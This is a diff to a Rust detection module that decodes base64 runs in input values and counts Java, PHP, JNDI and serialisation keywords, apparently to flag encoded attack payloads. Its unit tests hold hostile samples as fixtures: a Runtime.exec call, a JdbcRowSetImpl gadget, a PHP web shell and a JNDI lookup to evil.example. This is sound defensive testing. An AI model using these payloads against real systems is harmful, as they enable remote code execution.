@@ -6,6 +6,12 @@
 //! 900-character STS session token from a 900-character Java serialisation stream. The decoded
 //! header can: a gadget chain must start with its format's magic, a random token almost never
 //! does (each format below needs 3 to 9 fixed bytes).
+//!
+//! Code hidden in base64 (a class name, a PHP call, a JNDI lookup that the application decodes
+//! before use) is found by decoding the start of each longer run and counting the code
+//! families' keywords in it ([`decoded_code_keywords`]).
+
+use super::keywords;
 
 /// Shortest base64 run that is decoded (12 characters give the 9 bytes .NET's header needs).
 const MIN_RUN: usize = 12;
@@ -17,25 +23,54 @@ const HEAD: usize = 16;
 /// more), Ruby Marshal, or PHP `serialize()` output. Linear in `text`; reads at most
 /// [`HEAD`] characters of each run.
 pub fn has_serialized_object(text: &str) -> bool {
-    let bytes = text.as_bytes();
-    let mut i = 0;
-    while i < bytes.len() {
-        if sextet(bytes[i]).is_none() {
-            i += 1;
-            continue;
+    runs(text.as_bytes(), MIN_RUN).any(|run| {
+        let (head, len) = decode_head(run);
+        is_object_header(&head[..len])
+    })
+}
+
+/// Shortest base64 run whose decoded text is searched for keywords (12 bytes of text).
+const MIN_KEYWORD_RUN: usize = 16;
+/// Characters of a run decoded for the keyword search.
+const KEYWORD_CHARS: usize = 1024;
+/// Characters decoded for the keyword search over all runs of one value.
+const KEYWORD_BUDGET: usize = 4096;
+
+/// Distinct keywords of the code families ([`keywords::DECODED_FAMILIES`]: Java, PHP,
+/// serialised objects, JNDI) in the decoded text of the base64 runs of `text` (runs of 16
+/// characters or more, the first 1,024 characters of each, 4,096 in all). Random tokens decode
+/// to bytes that almost never spell a keyword of four letters or more, which is all this counts.
+pub fn decoded_code_keywords(text: &str) -> usize {
+    let mut budget = KEYWORD_BUDGET;
+    let mut found = keywords::Found::default();
+    for run in runs(text.as_bytes(), MIN_KEYWORD_RUN) {
+        if budget == 0 {
+            break;
         }
-        let start = i;
-        while i < bytes.len() && sextet(bytes[i]).is_some() {
-            i += 1;
-        }
-        if i - start >= MIN_RUN {
-            let (head, len) = decode_head(&bytes[start..i]);
-            if is_object_header(&head[..len]) {
-                return true;
+        let take = run.len().min(KEYWORD_CHARS).min(budget) / 4 * 4;
+        budget -= take;
+        let mut decoded = [0u8; KEYWORD_CHARS / 4 * 3];
+        let mut len = 0;
+        for quad in run[..take].chunks_exact(4) {
+            let mut n = 0u32;
+            for &c in quad {
+                n = (n << 6) | u32::from(sextet(c).unwrap_or(0));
+            }
+            for b in [(n >> 16) as u8, (n >> 8) as u8, n as u8] {
+                decoded[len] = b.to_ascii_lowercase();
+                len += 1;
             }
         }
+        found.mark_decoded(&decoded[..len]);
     }
-    false
+    found.decoded_count()
+}
+
+/// The runs of base64 characters (either alphabet) of `min` characters or more in `bytes`.
+fn runs(bytes: &[u8], min: usize) -> impl Iterator<Item = &[u8]> {
+    bytes
+        .split(|&b| sextet(b).is_none())
+        .filter(move |run| run.len() >= min)
 }
 
 /// The 6-bit value of a base64 character of either alphabet.
@@ -155,6 +190,56 @@ mod tests {
         ] {
             assert!(!has_serialized_object(text), "{text}");
         }
+    }
+
+    #[test]
+    fn code_in_base64_is_counted() {
+        for (text, at_least) in [
+            ("java.lang.Runtime.getRuntime().exec(\"id\")", 2),
+            (
+                "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"x\"}",
+                2,
+            ),
+            ("<?php system($_GET['c']); ?>", 3),
+            ("${jndi:ldap://evil.example/a}", 2),
+        ] {
+            let encoded = b64(text.as_bytes());
+            assert!(decoded_code_keywords(&encoded) >= at_least, "{text}");
+            let url_safe = encoded.replace('+', "-").replace('/', "_");
+            assert!(decoded_code_keywords(&format!("v={url_safe}")) >= at_least);
+            // The plain text itself is no base64 run.
+            assert_eq!(decoded_code_keywords(text), 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn tokens_and_encoded_prose_have_no_code_keywords() {
+        for text in [
+            "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.c2lnbmF0dXJl",
+            "IQoJb3JpZ2luX2VjEFAaCXVzLWVhc3QtMSJHMEUCIQD4x2a8J1mK9vTRqW3e5nFz",
+            "PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg==",
+            &b64(b"Hi team, the quarterly report is attached. Regards, Ana"),
+        ] {
+            assert_eq!(decoded_code_keywords(text), 0, "{text}");
+        }
+    }
+
+    #[test]
+    fn random_tokens_rarely_spell_code_keywords() {
+        let mut state = 0x2545_f491_4f6c_dd1du64;
+        let mut hits = 0;
+        for _ in 0..20_000 {
+            let token: Vec<u8> = (0..96)
+                .map(|_| {
+                    state ^= state << 13;
+                    state ^= state >> 7;
+                    state ^= state << 17;
+                    state as u8
+                })
+                .collect();
+            hits += usize::from(decoded_code_keywords(&b64(&token)) > 0);
+        }
+        assert!(hits <= 2, "{hits} random tokens spelled a code keyword");
     }
 
     #[test]
